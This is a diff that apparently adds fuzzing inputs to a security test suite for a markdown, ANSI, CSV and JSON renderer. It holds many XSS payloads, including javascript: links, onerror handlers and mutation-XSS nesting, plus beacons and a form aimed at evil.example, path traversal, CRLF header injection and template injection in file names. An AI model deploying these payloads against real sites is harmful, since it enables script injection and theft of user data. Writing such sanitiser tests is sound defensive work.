@@ -77,3 +77,88 @@ POLYGLOTS = [
     f"<script>{JS}</script>".encode() + b"\xff\xfe\x80",
     b"PK\x03\x04" + f"<html><script>{JS}</script>".encode() + b"\0" * 30,
 ]
+
+MARKDOWN = [
+    f"[a](javascript:{JS})",
+    f"[a](JaVaScRiPt:{JS})",
+    f"[a](java\nscript:{JS})",
+    f"[a](&#106;avascript:{JS})",
+    f"[a](javascript&colon;{JS})",
+    f"[a](\x01javascript:{JS})",
+    f"[a]( data:text/html,<script>{JS}</script>)",
+    f"<javascript:{JS}>",
+    f"[a]: javascript:{JS}\n[a]",
+    f"![a](javascript:{JS})",
+    "![a](https://evil.example/x.png)",
+    "![a](//evil.example/x.png)",
+    "![a](https://evil.example/x.png 'onerror=alert(1)')",
+    f'![a"onerror="{JS}](x)',
+    f'![a](x"onerror="{JS})',
+    f"[![a](https://evil.example/x.svg)](javascript:{JS})",
+    f"```html onload={JS}\n<script>{JS}</script>\n```",
+    f"```<img src=x onerror={JS}>\nx\n```",
+    f"`<img src=x onerror={JS}>`",
+    f"<a href='javascript:{JS}' autofocus onfocus='{JS}'>x</a>",
+    f"<a href='\tjavascript:{JS}'>x</a>",
+    "<a href=//evil.example target=_blank ping=https://evil.example/>x</a>",
+    f"<img src=x:x onerror={JS} onload={JS}>",
+    f"<img src=data:image/svg+xml,<svg/onload={JS}>>",
+    "<img srcset='https://evil.example/x 2x' src=https://evil.example/y>",
+    "<picture><source srcset=https://evil.example/x><img src=x></picture>",
+    f"<details open ontoggle={JS}><summary onclick={JS}>x</summary></details>",
+    f"<table background=https://evil.example/x><td background=javascript:{JS}>",
+    f"<div id=main class=top style='position:fixed;inset:0;background:url(https://evil.example/)' onclick={JS}>",
+    "</article></main></body><form id=x action=https://evil.example><input name=a><button autofocus>",
+    f"<svg><a xlink:href='javascript:{JS}'><text x=1 y=20>x</text></a></svg>",
+    f"<math href='javascript:{JS}'>x</math>",
+    f"<noscript><style></noscript><img src=x onerror={JS}>",
+    f"<table><style><!--</style><img title='--><img src=x onerror={JS}>'>",
+    f"<math><annotation-xml encoding='text/html'><img src=x onerror={JS}></annotation-xml></math>",
+    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={JS}>",
+    f"x[^1]\n\n[^1]: <script>{JS}</script>",
+    f"a | b\n--|--\n<img src=x onerror={JS}> | [x](javascript:{JS})",
+    f"# <img src=x onerror={JS}>\n## {{#id onclick={JS}}}",
+    f"<!--\n-->\n<script>{JS}</script>\n<!-- --!><img src=x onerror={JS}> -->",
+    f"<x-y onclick={JS}><slot></slot><dialog open oncancel={JS}>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'><base href=https://evil.example/>",
+    "<link rel=stylesheet href=https://evil.example/x.css><style>@import 'https://evil.example/x.css'</style>",
+    "<video src=https://evil.example/x autoplay></video><audio src=https://evil.example/y autoplay></audio>",
+    "<iframe src=https://evil.example/></iframe><object data=https://evil.example/></object><embed src=//evil.example>",
+    "https://evil.example/<script>alert(1)</script>",
+]
+
+ANSI = [
+    f"\x1b[31m<script>{JS}</script>\x1b[0m",
+    f'\x1b[1"onmouseover="{JS}"m<img src=x onerror={JS}>\x1b[0m',
+    f"\x1b]8;;javascript:{JS}\x1b\\<b>link</b>\x1b]8;;\x1b\\\x1b[31m.",
+    f"\x1b]0;</title><script>{JS}</script>\x07\x1b[31mtitle",
+    f"\x1b[38;5;999;<script>{JS}</script>m\x1b[4m",
+    f"\x1b[32m</pre></code><script>{JS}\r</script>\b\b\x1b[K",
+    f"\x1bP<img src=x onerror={JS}>\x1b\\\x1b[0m",
+]
+
+CSVS = [
+    f"name,value\n<script>{JS}</script>,1\n",
+    f'"<img src=x onerror=""{JS}"">",b\n"=HYPERLINK(""https://evil.example"")",2\n',
+    f"</td></table><script>{JS}</script>\tb\n1\t</th><svg onload={JS}>\n",
+    f"<th onclick={JS}>,<button autofocus onfocus={JS}>\nx,y\n",
+]
+
+JSONS = [
+    f'{{"</ul><script>{JS}</script>": "<img src=x onerror={JS}>"}}',
+    f'["</details><svg onload={JS}>", {{"__proto__": {{"a": "</script><script>{JS}</script>"}}}}]',
+    f"\"<iframe srcdoc='<script>parent.{JS}</script>'>\"",
+]
+
+NAMES = [
+    f'"><img src=x onerror="{JS}">.md',
+    f"' onmouseover='{JS}.csv",
+    f"</title><script>{JS}</script>/x.json",
+    f"javascript:{JS}/a.log",
+    "../../../etc/passwd",
+    "a/../../b",
+    "\u202egpj.exe/x",
+    "\r\nSet-Cookie: x=1/\x00y",
+    "//evil.example/x.png",
+    "{{ 7*7 }}/{% raw %}",
+]
